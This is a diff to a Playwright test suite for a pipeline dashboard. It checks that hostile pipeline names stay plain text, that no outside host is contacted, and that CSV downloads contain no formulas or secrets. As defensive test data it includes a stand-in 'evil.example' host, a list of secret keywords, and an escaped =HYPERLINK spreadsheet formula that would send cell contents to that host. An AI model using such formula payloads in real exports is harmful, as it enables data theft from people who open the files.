@@ -8,22 +8,15 @@ import re
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import BrowserContext, Page, WebSocket, expect
+from playwright.sync_api import BrowserContext, Page, ViewportSize, WebSocket, expect
 
 from sandbox import Sandbox
 from tests.conftest import Dashboard, free_port, launch, settings_for
-from tests.tab_house import downloaded, drawn, fits, unfold
+from tests.tab_house import downloaded, drawn, fits, heading, unfold
 
 OPENED = 8000  # its name has bold, italics, code, a link and a heading
 ADDRESS = 8009  # its name is nothing but addresses
-PAGES = {
-    "/": "pipelines need attention",
-    "/pipelines": "Pipelines",
-    "/history": "History",
-    "/run": "Run",
-    f"/pipelines?pipeline={OPENED}": "**bold** _it_ `code` [click](https://",
-    f"/pipelines?pipeline={ADDRESS}": "https://\u200bevil.example/bare",
-}
+DESK = ViewportSize(width=1280, height=3000)
 RAW_SECRETS = ("must-stay-hidden", "hunter2", "db_password", "api_token", "webhook_url", "root:")
 FORMULA_STARTS = tuple("=+-@\t\r\0＝＋－＠")
 FOUND_IN_PAGE = """() => {
@@ -84,21 +77,36 @@ def visit(page: Page, address: str, text: str) -> None:
     drawn(page)
 
 
-@pytest.mark.parametrize("path", PAGES)
-def test_hostile_text_stays_text_and_no_other_host_hears_of_it(dashboard: Dashboard, page: Page, path: str) -> None:
-    wire = Wire(page, dashboard.url)
-    visit(page, dashboard.url + path, PAGES[path])
+def stays_text(page: Page, wire: Wire) -> None:
+    """Whatever stands on a page, also folded, is text, fits a phone, and no other host hears of it."""
     unfold(page)
-    assert page.evaluate(FOUND_IN_PAGE) == []
+    assert (page.url, page.evaluate(FOUND_IN_PAGE)) == (page.url, [])
     fits(page, 320)
     assert wire.foreign == []
     assert wire.frames
     assert wire.leaks(page) == []
+    page.set_viewport_size(DESK)
 
 
-def test_the_confirmation_and_the_outcome_of_a_run_show_the_name_as_it_is(dashboard: Dashboard, page: Page) -> None:
+def test_hostile_text_stays_text_and_no_other_host_hears_of_it(dashboard: Dashboard, page: Page) -> None:
     wire = Wire(page, dashboard.url)
-    visit(page, f"{dashboard.url}/pipelines?pipeline={OPENED}", PAGES[f"/pipelines?pipeline={OPENED}"])
+    visit(page, dashboard.url, "pipelines need attention")
+    stays_text(page, wire)
+    for name in ("Pipelines", "History", "Run"):
+        page.get_by_role("link", name=name, exact=True).click()
+        heading(page, name)
+        drawn(page)
+        stays_text(page, wire)
+    visit(page, f"{dashboard.url}/pipelines?pipeline={ADDRESS}", "https://\u200bevil.example/bare")
+    stays_text(page, wire)
+
+
+def test_a_pipelines_page_the_confirmation_and_the_outcome_of_a_run_show_the_name_as_it_is(
+    dashboard: Dashboard, page: Page
+) -> None:
+    wire = Wire(page, dashboard.url)
+    visit(page, f"{dashboard.url}/pipelines?pipeline={OPENED}", "**bold** _it_ `code` [click](https://")
+    stays_text(page, wire)
     expect(page.get_by_text(re.compile(r"^\d+ tables?\.$|tables failed|lists no tables"))).to_be_visible()
     page.get_by_role("button", name="Run", exact=True).click()
     expect(page.get_by_role("dialog")).to_contain_text('Run "**bold** _it_ `code` [click](https://')
@@ -124,14 +132,17 @@ def choose(page: Page, place: int) -> None:
     page.get_by_test_id("stDataFrame").click(position={"x": 150, "y": 35 * (place + 1) + 18})
 
 
-@pytest.mark.parametrize(
-    ("path", "button"), [("/pipelines", "Download as CSV"), ("/history", "Download the history as CSV")]
-)
-def test_no_cell_of_a_download_is_a_formula_or_a_secret(
-    dashboard: Dashboard, hevo: Sandbox, page: Page, path: str, button: str
-) -> None:
-    visit(page, dashboard.url + path, PAGES[path])
-    rows = downloaded(page, button)
+def test_no_cell_of_a_download_is_a_formula_or_a_secret(dashboard: Dashboard, hevo: Sandbox, page: Page) -> None:
+    visit(page, f"{dashboard.url}/pipelines", "Pipelines")
+    is_harmless(downloaded(page), hevo)
+    page.get_by_role("link", name="History", exact=True).click()
+    heading(page, "History")
+    drawn(page)
+    is_harmless(downloaded(page, "Download the history as CSV"), hevo)
+
+
+def is_harmless(rows: list[dict[str, str]], hevo: Sandbox) -> None:
+    """A download holds every pipeline, as text: no formula and no secret."""
     cells = [cell for row in rows for cell in row.values()]
     assert [cell for cell in cells if cell.lstrip(" \n\u00a0\u200b\u2060\ufeff").startswith(FORMULA_STARTS)] == []
     assert {'\'=HYPERLINK("https://evil.example/?"&A1, "open")', "'+1-2", "'@SUM(1+1)"} <= set(cells)
